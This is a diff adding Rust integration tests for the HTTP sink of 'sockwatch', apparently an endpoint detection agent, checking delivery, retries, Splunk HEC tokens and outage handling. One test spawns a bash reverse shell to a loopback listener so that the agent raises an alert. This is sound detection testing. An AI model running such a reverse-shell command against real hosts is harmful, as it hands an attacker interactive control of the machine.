@@ -1,0 +1,437 @@
+//! The HTTP sink end to end: the real agent POSTing to a real receiver on loopback
+//! (tests/fixtures/receiver.py) that can be told to fail in the ways SIEMs fail. Every test
+//! checks the accounting identity per lane and that what the agent generated arrived, by
+//! `event.id`.
+
+use crate::agent::Agent;
+use crate::util::{Running, ScratchDir, prerequisites};
+use serde_json::{Value, json};
+use std::collections::HashMap;
+use std::path::Path;
+use std::process::Command;
+use std::time::{Duration, Instant};
+
+const RECEIVER: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/fixtures/receiver.py");
+
+struct Receiver {
+    _process: Running,
+    port: u16,
+}
+
+impl Receiver {
+    fn start(port: u16) -> Receiver {
+        let mut command = Command::new("python3");
+        command.arg(RECEIVER).arg(port.to_string());
+        let (process, line) = Running::spawn_with_line(command);
+        let facts: Value = serde_json::from_str(&line).expect("receiver prints its port");
+        Receiver { _process: process, port: facts["port"].as_u64().unwrap() as u16 }
+    }
+
+    fn url(&self) -> String {
+        format!("http://127.0.0.1:{}/ingest", self.port)
+    }
+
+    fn control(&self, settings: Value) {
+        ureq::post(&format!("http://127.0.0.1:{}/_control", self.port))
+            .header("Content-Type", "application/json")
+            .send(settings.to_string())
+            .expect("control the receiver");
+    }
+
+    fn requests(&self) -> Vec<Value> {
+        let mut answer = ureq::get(&format!("http://127.0.0.1:{}/_requests", self.port))
+            .call()
+            .expect("read the receiver's log");
+        let text = answer.body_mut().with_config().limit(1 << 30).read_to_string().expect("log");
+        serde_json::from_str(&text).expect("requests as JSON")
+    }
+
+    /// Ids of the events in requests answered 2xx, with how often each arrived.
+    fn accepted_ids(&self) -> HashMap<String, usize> {
+        let mut ids = HashMap::new();
+        for request in self.requests() {
+            if (200..300).contains(&request["status"].as_u64().unwrap()) {
+                for event in request["events"].as_array().unwrap() {
+                    *ids.entry(event["event"]["id"].as_str().unwrap().to_string()).or_default() +=
+                        1;
+                }
+            }
+        }
+        ids
+    }
+}
+
+/// A config with stdout (what the test reads) and one HTTP sink with `http` extra settings.
+fn config(dir: &Path, url: &str, http: &str) -> String {
+    let path = dir.join("sockwatch.toml");
+    let body = format!(
+        "[[sinks]]\ntype = \"stdout\"\n\n[[sinks]]\ntype = \"http\"\nurl = \"{url}\"\n\
+         batch_max_wait = \"200ms\"\n{http}\n"
+    );
+    std::fs::write(&path, body).unwrap();
+    path.display().to_string()
+}
+
+/// Opens `n` loopback connections, holds them across a scan, closes them: 2n+ socket events.
+fn connections(n: usize) {
+    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    let address = listener.local_addr().unwrap();
+    let held: Vec<_> = (0..n)
+        .map(|_| {
+            let client = std::net::TcpStream::connect(address).unwrap();
+            let (server, _) = listener.accept().unwrap();
+            (client, server)
+        })
+        .collect();
+    std::thread::sleep(Duration::from_millis(600));
+    drop(held);
+    std::thread::sleep(Duration::from_millis(600));
+}
+
+/// Each lane's final counters from the agent's exit line, checked against the identity.
+fn lanes(tally: &Value) -> HashMap<String, Value> {
+    let mut lanes = HashMap::new();
+    for sink in tally["sinks"].as_array().expect("sink counters") {
+        let n = |k: &str| sink[k].as_u64().unwrap();
+        assert_eq!(
+            n("generated"),
+            n("delivered")
+                + n("dropped_queue_full")
+                + n("dropped_write_error")
+                + n("dropped_rejected")
+                + n("queued"),
+            "accounting identity: {sink}"
+        );
+        lanes.insert(sink["sink"].as_str().unwrap().to_string(), sink.clone());
+    }
+    lanes
+}
+
+fn wait_until(what: &str, limit: Duration, mut done: impl FnMut() -> bool) {
+    let deadline = Instant::now() + limit;
+    while Instant::now() < deadline {
+        if done() {
+            return;
+        }
+        std::thread::sleep(Duration::from_millis(100));
+    }
+    panic!("{what}: not within {limit:?}");
+}
+
+/// Every event the agent printed on stdout (after `agent_started`, which the HTTP sink may see
+/// too) arrived exactly once.
+fn all_arrived_once(events: &[Value], receiver: &Receiver) {
+    let accepted = receiver.accepted_ids();
+    let mut missing = Vec::new();
+    for event in events {
+        let id = event["event"]["id"].as_str().unwrap();
+        match accepted.get(id) {
+            Some(1) => {}
+            Some(n) => panic!("event {id} arrived {n} times"),
+            None => missing.push(event["event"]["action"].clone()),
+        }
+    }
+    assert!(missing.is_empty(), "{} events never arrived: {missing:?}", missing.len());
+}
+
+#[test]
+fn ndjson_batches_arrive_gzipped_in_order_and_are_counted() {
+    if !prerequisites(&["python3"]) {
+        return;
+    }
+    let dir = ScratchDir::new("http-ndjson");
+    let receiver = Receiver::start(0);
+    let agent = Agent::start(&["--config", &config(&dir.path, &receiver.url(), "")]);
+    connections(20);
+    let (status, events, tally) = agent.stop();
+    assert!(status.success());
+    all_arrived_once(&events, &receiver);
+
+    let requests = receiver.requests();
+    for request in &requests {
+        assert_eq!(request["headers"]["content-encoding"], "gzip");
+        assert_eq!(request["headers"]["content-type"], "application/x-ndjson");
+        assert_eq!(request["body_ends_with_newline"], true);
+        assert!(request["headers"]["user-agent"].as_str().unwrap().starts_with("sockwatch/"));
+    }
+    // Telemetry is batched (many socket events per request), in order within its lane.
+    let sequences: Vec<u64> = requests
+        .iter()
+        .flat_map(|r| r["events"].as_array().unwrap().clone())
+        .filter(|e| e["event"]["kind"] != "alert")
+        .map(|e| e["event"]["sequence"].as_u64().unwrap())
+        .collect();
+    assert!(sequences.windows(2).all(|w| w[0] < w[1]), "telemetry out of order: {sequences:?}");
+    assert!(
+        sequences.len() > requests.len(),
+        "{} events in {} requests",
+        sequences.len(),
+        requests.len()
+    );
+
+    let lanes = lanes(&tally);
+    let telemetry = &lanes[&format!("http:{}#telemetry", receiver.url())];
+    assert_eq!(telemetry["delivered"].as_u64().unwrap() as usize, sequences.len());
+    assert!(lanes.contains_key(&format!("http:{}#alerts", receiver.url())));
+}
+
+#[test]
+fn retries_honour_retry_after_and_lose_nothing() {
+    if !prerequisites(&["python3"]) {
+        return;
+    }
+    let dir = ScratchDir::new("http-retry");
+    let receiver = Receiver::start(0);
+    receiver.control(json!({"plan": [
+        {"status": 503}, {"status": 500}, {"status": 429, "retry_after": 3}, {"status": 408}
+    ]}));
+    let agent = Agent::start(&["--config", &config(&dir.path, &receiver.url(), "")]);
+    connections(5);
+    wait_until("the planned failures are used up", Duration::from_secs(30), || {
+        receiver.requests().iter().filter(|r| r["status"] == 200).count() > 0
+    });
+    let (status, events, tally) = agent.stop();
+    assert!(status.success());
+    all_arrived_once(&events, &receiver);
+
+    let requests = receiver.requests();
+    let after_429 = requests.iter().position(|r| r["status"] == 429).expect("a 429");
+    let gap = requests[after_429 + 1]["at"].as_f64().unwrap()
+        - requests[after_429]["at"].as_f64().unwrap();
+    assert!(gap >= 2.9, "Retry-After: 3 honoured, next request after {gap:.2} s");
+    for lane in lanes(&tally).values() {
+        assert_eq!(lane["dropped_rejected"], 0);
+        assert_eq!(lane["dropped_write_error"], 0);
+    }
+}
+
+#[test]
+fn a_413_splits_the_batch_and_a_400_drops_it_counted() {
+    if !prerequisites(&["python3"]) {
+        return;
+    }
+    let dir = ScratchDir::new("http-413");
+    let receiver = Receiver::start(0);
+    receiver.control(json!({"max_lines": 3}));
+    let agent = Agent::start(&["--config", &config(&dir.path, &receiver.url(), "")]);
+    connections(10);
+    let (status, events, _) = agent.stop();
+    assert!(status.success());
+    all_arrived_once(&events, &receiver);
+    let requests = receiver.requests();
+    assert!(requests.iter().any(|r| r["status"] == 413), "some batch was too large");
+    for accepted in requests.iter().filter(|r| r["status"] == 200) {
+        assert!(accepted["events"].as_array().unwrap().len() <= 3);
+    }
+
+    let receiver = Receiver::start(0);
+    receiver.control(json!({"reject": 400}));
+    let agent = Agent::start(&["--config", &config(&dir.path, &receiver.url(), "")]);
+    connections(5);
+    let (status, _, tally) = agent.stop();
+    assert!(status.success());
+    let lanes = lanes(&tally);
+    let telemetry = &lanes[&format!("http:{}#telemetry", receiver.url())];
+    assert!(telemetry["dropped_rejected"].as_u64().unwrap() > 0, "{telemetry}");
+    assert_eq!(telemetry["delivered"], 0);
+    // Dropped, not retried: one request per batch.
+    let requests = receiver.requests();
+    let sent: usize = requests.iter().map(|r| r["events"].as_array().unwrap().len()).sum();
+    assert_eq!(sent as u64, telemetry["dropped_rejected"].as_u64().unwrap());
+}
+
+#[test]
+fn splunk_hec_envelopes_with_the_token_from_a_file_never_logged() {
+    if !prerequisites(&["python3"]) {
+        return;
+    }
+    let dir = ScratchDir::new("http-hec");
+    let token = "3f1c2b9e-hec-token-never-logged";
+    let token_file = dir.path.join("hec.token");
+    std::fs::write(&token_file, format!("{token}\n")).unwrap();
+    let receiver = Receiver::start(0);
+    receiver.control(json!({"hec_token": token}));
+    let settings = format!(
+        "format = \"splunk_hec\"\nauth = {{ type = \"splunk\", token_file = \"{}\" }}\n\
+         splunk = {{ index = \"edr\", sourcetype = \"sockwatch:ecs\" }}",
+        token_file.display()
+    );
+    let agent = Agent::start(&["--config", &config(&dir.path, &receiver.url(), &settings)]);
+    connections(3);
+    let (status, events, _) = agent.stop();
+    assert!(status.success());
+    all_arrived_once(&events, &receiver);
+    let host = events[0]["host"]["name"].clone();
+    for request in receiver.requests() {
+        assert_eq!(request["status"], 200, "{request}");
+        for envelope in request["envelopes"].as_array().unwrap() {
+            assert_eq!(envelope["host"], host);
+            assert_eq!(envelope["index"], "edr");
+            assert_eq!(envelope["source"], "sockwatch");
+            assert!(envelope["time"].as_f64().unwrap() > 1.7e9, "epoch seconds: {envelope}");
+            assert_eq!(envelope["fields"]["event.kind"], envelope["event"]["event"]["kind"]);
+        }
+    }
+
+    // A wrong token: refused (401, HEC code 3), dropped and said so, the token nowhere.
+    let receiver = Receiver::start(0);
+    receiver.control(json!({"hec_token": "another-token"}));
+    let config = config(&dir.path, &receiver.url(), &settings);
+    let (stdout, stderr) =
+        run_until(&dir.path, &config, || receiver.requests().iter().any(|r| r["status"] == 401));
+    assert!(stderr.contains("HEC code 3"), "the refusal is reported: {stderr}");
+    for text in [&stdout, &stderr] {
+        assert!(!text.contains(token) && !text.contains("another-token"), "a token leaked");
+    }
+    let tally: Value = serde_json::from_str(stderr.lines().last().unwrap()).unwrap();
+    assert!(lanes(&tally).values().any(|l| l["dropped_rejected"].as_u64().unwrap() > 0));
+}
+
+/// Runs the agent on `config` until `done`, then stops it: (stdout, stderr).
+fn run_until(dir: &Path, config: &str, done: impl FnMut() -> bool) -> (String, String) {
+    let child = Command::new(env!("CARGO_BIN_EXE_sockwatch"))
+        .args(["run", "--interval", "200ms", "--config", config, "--state-dir"])
+        .arg(dir.join("state"))
+        .stdin(std::process::Stdio::null())
+        .stdout(std::process::Stdio::piped())
+        .stderr(std::process::Stdio::piped())
+        .spawn()
+        .unwrap();
+    let mut child = crate::util::KillOnDrop::new(child);
+    let pid = rustix::process::Pid::from_raw(child.child().id() as i32).unwrap();
+    wait_until("the agent's work", Duration::from_secs(10), done);
+    rustix::process::kill_process(pid, rustix::process::Signal::TERM).unwrap();
+    let output = child.take().wait_with_output().unwrap();
+    (
+        String::from_utf8_lossy(&output.stdout).into_owned(),
+        String::from_utf8_lossy(&output.stderr).into_owned(),
+    )
+}
+
+#[test]
+fn switching_tls_verification_off_is_warned_about_at_start() {
+    if !prerequisites(&["python3"]) {
+        return;
+    }
+    let dir = ScratchDir::new("http-insecure");
+    let receiver = Receiver::start(0);
+    let settings = "tls = { insecure_skip_verify = true }";
+    let config = config(&dir.path, &receiver.url(), settings);
+    let (_, stderr) = run_until(&dir.path, &config, || !receiver.requests().is_empty());
+    let warnings: Vec<&str> =
+        stderr.lines().filter(|l| l.contains("insecure_skip_verify")).collect();
+    assert_eq!(warnings.len(), 2, "one warning per lane: {stderr}");
+}
+
+#[test]
+fn an_alert_is_not_held_behind_stalled_telemetry() {
+    if !prerequisites(&["python3", "bash"]) {
+        return;
+    }
+    let dir = ScratchDir::new("http-lanes");
+    let receiver = Receiver::start(0);
+    receiver.control(json!({"stall_unless_alert": 8}));
+    let agent =
+        Agent::start(&["--config", &config(&dir.path, &receiver.url(), "timeout = \"20s\"")]);
+    connections(3);
+    // A reverse shell to a listener of the test's.
+    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = listener.local_addr().unwrap().port();
+    let mut shell = crate::util::KillOnDrop::new(
+        Command::new("bash")
+            .args(["-c", &format!("exec bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1")])
+            .stdin(std::process::Stdio::null())
+            .stderr(std::process::Stdio::null())
+            .spawn()
+            .unwrap(),
+    );
+    let (_peer, _) = listener.accept().unwrap();
+    let opened = agent.wait_for("incident_opened", |e| e["event"]["action"] == "incident_opened");
+    let id = opened["event"]["id"].as_str().unwrap().to_string();
+    let seen = Instant::now();
+    wait_until("the alert at the receiver", Duration::from_secs(5), || {
+        receiver.accepted_ids().contains_key(&id)
+    });
+    assert!(seen.elapsed() < Duration::from_secs(5));
+    let _ = shell.child().kill();
+    // Telemetry was held meanwhile, not lost: it drains once the receiver answers again.
+    receiver.control(json!({"stall_unless_alert": null}));
+    let printed = agent.events();
+    wait_until("the telemetry backlog delivered", Duration::from_secs(60), || {
+        let accepted = receiver.accepted_ids();
+        printed.iter().all(|e| accepted.contains_key(e["event"]["id"].as_str().unwrap()))
+    });
+    let (status, events, _) = agent.stop();
+    assert!(status.success());
+    all_arrived_once(&events, &receiver);
+}
+
+#[test]
+fn an_outage_loses_nothing_and_duplicates_at_most_a_batch() {
+    if !prerequisites(&["python3"]) {
+        return;
+    }
+    let dir = ScratchDir::new("http-outage");
+    let receiver = Receiver::start(0);
+    let port = receiver.port;
+    let url = receiver.url();
+    let agent = Agent::start(&["--config", &config(&dir.path, &url, "")]);
+    connections(3);
+    wait_until("the first events delivered", Duration::from_secs(10), || {
+        !receiver.accepted_ids().is_empty()
+    });
+    // The outage starts with refusals, so that nothing is accepted after `before` is read.
+    receiver.control(json!({"reject": 503}));
+    let before = receiver.accepted_ids();
+    drop(receiver);
+    // ≥ 100 events/s for the outage: connections opened and closed across scans.
+    let outage = Duration::from_secs(
+        std::env::var("SOCKWATCH_OUTAGE_SECONDS").ok().and_then(|s| s.parse().ok()).unwrap_or(60),
+    );
+    let started = Instant::now();
+    while started.elapsed() < outage {
+        connections(60);
+    }
+    let peak_rss_kib = peak_rss_kib(agent.pid());
+    let receiver = Receiver::start(port);
+    wait_until("the backlog drained", Duration::from_secs(120), || {
+        receiver.requests().iter().filter(|r| r["status"] == 200).count() > 0
+    });
+    // Drained: nothing left queued in the telemetry lane.
+    std::thread::sleep(Duration::from_secs(3));
+    let (status, events, tally) = agent.stop();
+    assert!(status.success());
+    let during = events.iter().filter(|e| e["event"]["kind"] == "event").count();
+    assert!(
+        during as f64 / outage.as_secs_f64() >= 100.0,
+        "{during} events in {outage:?}: fewer than 100/s"
+    );
+    // Zero loss: every event is at one receiver or the other; duplicates at most one batch.
+    let mut arrived = receiver.accepted_ids();
+    for (id, n) in before {
+        *arrived.entry(id).or_default() += n;
+    }
+    let missing: Vec<_> = events
+        .iter()
+        .filter(|e| !arrived.contains_key(e["event"]["id"].as_str().unwrap()))
+        .map(|e| e["event"]["action"].clone())
+        .collect();
+    assert!(missing.is_empty(), "{} events lost: {missing:?}", missing.len());
+    let duplicates = arrived.values().filter(|n| **n > 1).count();
+    assert!(duplicates <= 500, "{duplicates} duplicates: more than one batch");
+    let lanes = lanes(&tally);
+    for lane in lanes.values() {
+        for dropped in ["dropped_queue_full", "dropped_write_error", "dropped_rejected"] {
+            assert_eq!(lane[dropped], 0, "{lane}");
+        }
+        assert_eq!(lane["queued"], 0, "{lane}");
+    }
+    // The backlog lives in bounded queues: memory stays near the agent's usual size.
+    assert!(peak_rss_kib < 128 * 1024, "peak RSS {peak_rss_kib} KiB during the outage");
+}
+
+fn peak_rss_kib(pid: i32) -> u64 {
+    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).unwrap();
+    let line = status.lines().find(|l| l.starts_with("VmHWM:")).unwrap();
+    line.split_whitespace().nth(1).unwrap().parse().unwrap()
+}
